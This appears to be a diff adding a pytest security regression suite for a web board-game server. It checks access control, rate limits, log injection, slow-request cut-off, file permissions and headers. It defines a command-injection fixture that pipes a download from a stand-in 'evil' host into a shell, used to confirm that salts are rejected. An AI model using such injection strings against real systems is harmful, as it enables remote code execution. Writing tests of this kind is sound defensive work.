@@ -1,0 +1,199 @@
+"""Doors that were found open, each walked through as its finder did."""
+
+from __future__ import annotations
+
+import json
+import logging
+import re
+import socket
+import stat
+import time
+from pathlib import Path
+
+import pytest
+
+from herna.kernel.errors import BadRecord
+from herna.kernel.record import read
+from herna.web.errors import plain
+from herna.web.guard import headers
+from herna.web.pages.newtable import HUES, seat_rows
+from herna.web.readers import Reader
+from herna.web.rows import Visitor
+from herna.web.store import Store
+from web.guests import Guest, Inn, apart
+
+EVIL = "'; curl evil|sh; echo '"
+
+
+def finished(guest: Guest) -> str:
+    """Return a table whose game is over."""
+    table = guest.new_table(seat1="bot", level1="random", seat2="none", seat3="none")
+    while codes := guest.wait(table):
+        guest.answer(table, codes[-1])
+    return table
+
+
+def test_who_does_not_want_to_be_watched_is_not_shown_by_the_replay(inn: Inn) -> None:
+    stranger, hidden = inn.guest(), inn.guest()
+    answer = hidden.post("/play/harbours", {"name": "Jana"})
+    table = str(answer.url.path).removeprefix("/t/")
+    for who in ("?as=public", ""):
+        assert stranger.get(f"/t/{table}/replay{who}").status_code == 403
+        assert stranger.get(f"/t/{table}/replay/parts{who}").status_code == 403
+    assert hidden.get(f"/t/{table}/replay?as=public").status_code == 200
+
+
+def test_playing_at_once_is_within_the_limit_on_new_tables(tmp_path: Path) -> None:
+    inn = Inn(f"sqlite:///{tmp_path / 'herna.db'}", tables_per_hour=3).open()
+    try:
+        guest = inn.guest()
+        assert [guest.post("/play/harbours").status_code for _try in range(4)] == [200, 200, 200, 429]
+    finally:
+        inn.close()
+
+
+def test_a_salt_is_hexadecimal_and_no_command(inn: Inn) -> None:
+    guest = inn.guest()
+    record = json.loads(guest.get(f"/t/{finished(guest)}/record").text)
+    record["salt"] = EVIL
+    with pytest.raises(BadRecord, match="hexadecimal"):
+        read(json.dumps(record))
+    sent = {"record": ("r.json", json.dumps(record), "application/json")}
+    refused = guest.client.post("/upload", data={"_csrf_token": guest.token()}, files=sent)
+    assert refused.status_code == 400
+
+
+def test_a_salt_from_before_is_not_shown_as_a_command(inn: Inn) -> None:
+    guest = inn.guest()
+    table = finished(guest)
+    assert "sha256sum" in guest.get(f"/t/{table}/replay").text
+
+    async def spoil() -> None:
+        store = Store(str(inn.house.store.url))
+        async with store.begin() as connection:
+            await connection.exec_driver_sql("update tables set salt = ? where id = ?", (EVIL, table))
+        await store.close()
+
+    apart(spoil())
+    page = guest.get(f"/t/{table}/replay").text
+    assert "sha256sum" not in page and "<pre" not in page
+
+
+def test_a_colour_of_many_digits_is_no_colour(guest: Guest) -> None:
+    for hue in ("000", "9" * 4400, "٣"):
+        assert guest.client.get("/new", params={"game": "harbours", "hue0": hue}).status_code == 200
+        assert seat_rows("harbours", {"hue0": hue})[0].hue < HUES
+
+
+def test_no_name_of_a_seat_is_longer_than_the_database_keeps(inn: Inn) -> None:
+    guest = inn.guest()
+    table = guest.new_table(seat1="here", seat2="none", seat3="none", name0="x" * 40)
+
+    async def names() -> list[str]:
+        store = Store(str(inn.house.store.url))
+        _table, seats = await store.table(table)
+        await store.close()
+        return [seat.name for seat in seats]
+
+    assert [len(name) <= 40 for name in apart(names())] == [True, True]
+
+
+def test_deep_nesting_is_refused_and_logs_are_one_line(inn: Inn, caplog: pytest.LogCaptureFixture) -> None:
+    guest = inn.guest()
+    body = b"[" * 100_000
+    with caplog.at_level(logging.ERROR):
+        answer = guest.client.post(
+            "/api/tables/x%0aFAKE/answers", content=body, headers={"Content-Type": "application/json"}
+        )
+    assert answer.status_code == 400
+    assert not any("\n" in record.getMessage() for record in caplog.records)
+    assert plain("/api/x\nERROR forged/join/secret") == "/api/x%0AERROR%20forged"
+
+
+def test_a_slow_second_request_is_cut(inn: Inn, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(Reader, "slowest", 0.5)
+    with socket.create_connection(("127.0.0.1", inn.port), timeout=20) as wire:
+        wire.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
+        assert wire.recv(65536).startswith(b"HTTP/1.1 200")
+        cut = False
+        for _letter in range(200):
+            try:
+                wire.sendall(b"G")
+                time.sleep(0.05)
+            except OSError:
+                cut = True
+                break
+        assert cut
+
+
+def test_the_database_is_for_its_owner_only(tmp_path: Path) -> None:
+    path = tmp_path / "herna.db"
+    path.touch(0o644)
+
+    async def used() -> None:
+        store = Store(f"sqlite:///{path}")
+        await store.open()
+        await store.add_visitor(Visitor("a" * 32, "Jana"), "token")
+        for each in tmp_path.iterdir():
+            assert stat.S_IMODE(each.stat().st_mode) == 0o600, each
+        await store.close()
+
+    apart(used())
+
+
+def test_no_reply_to_a_program_is_kept_by_anybody(inn: Inn) -> None:
+    guest = inn.guest()
+    table = guest.new_table(seat1="bot", level1="random", seat2="none", seat3="none")
+    for path in ("/api/games", f"/api/tables/{table}"):
+        assert guest.get(path).headers["cache-control"] == "no-store"
+
+
+def test_over_https_browsers_are_told_never_to_come_otherwise(tmp_path: Path) -> None:
+    assert "Strict-Transport-Security" not in headers(False)
+    inn = Inn(f"sqlite:///{tmp_path / 'herna.db'}", secure=True).open()
+    try:
+        for path in ("/", "/nowhere", "/api/games"):
+            assert "max-age=" in inn.guest().get(path).headers["strict-transport-security"]
+    finally:
+        inn.close()
+
+
+def test_health_notices_a_database_that_cannot_be_written(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    inn = Inn(f"sqlite:///{tmp_path / 'herna.db'}").open()
+    try:
+        guest = inn.guest()
+        assert guest.get("/health").status_code == 200
+
+        async def fail() -> None:
+            from sqlite3 import OperationalError as Full
+
+            from sqlalchemy.exc import OperationalError
+
+            raise OperationalError("PRAGMA", {}, Full("database or disk is full"))
+
+        inn.house.store.__dict__["writable"] = fail
+        with caplog.at_level(logging.ERROR):
+            assert guest.get("/health").status_code == 503
+        assert "database or disk is full" in caplog.text
+    finally:
+        inn.close()
+
+
+def test_a_link_and_a_leaver_leave_no_older_link_open(inn: Inn) -> None:
+    host, friend = inn.guest(), inn.guest()
+    table = host.new_table(seat1="open", seat2="none", seat3="none")
+    friend.post(links(host, table)[0], {"name": "Petr"})
+    friend.post(f"/t/{table}/seats/1/link")
+    host.post(f"/t/{table}/seats/1/link")
+    shown = links(host, table) + links(friend, table)
+    friend.post(f"/t/{table}/leave")
+    for link in {*shown, *links(host, table), *links(friend, table)}:
+        works = inn.guest().get(link).status_code == 200
+        assert works == (link in {*links(host, table), *links(friend, table)})
+
+
+def links(guest: Guest, table: str) -> list[str]:
+    """Return the invitations that a page shows."""
+    return re.findall(r"/join/[\w-]+", guest.get(f"/t/{table}").text)
